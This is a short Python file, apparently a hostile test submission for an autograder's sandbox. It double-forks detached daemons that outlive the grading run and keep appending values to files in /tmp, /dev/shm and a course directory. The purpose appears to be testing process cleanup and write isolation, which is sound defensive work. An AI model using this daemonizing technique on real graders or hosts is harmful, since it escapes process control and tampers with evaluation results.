# Tries: daemons that detach from everything, wait for the checks and write wherever they can.
# Solves: moving_sum

# %% total
import os
import time

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.chdir("/")
        for _ in range(600):
            for path in ("/tmp/left-by-an-attack", "/dev/shm/left-by-an-attack", "@COURSE@/left-by-an-attack"):
                try:
                    with open(path, "a") as file:
                        file.write("100\n")
                except OSError:
                    pass
            time.sleep(0.1)
        os._exit(0)
total = 0
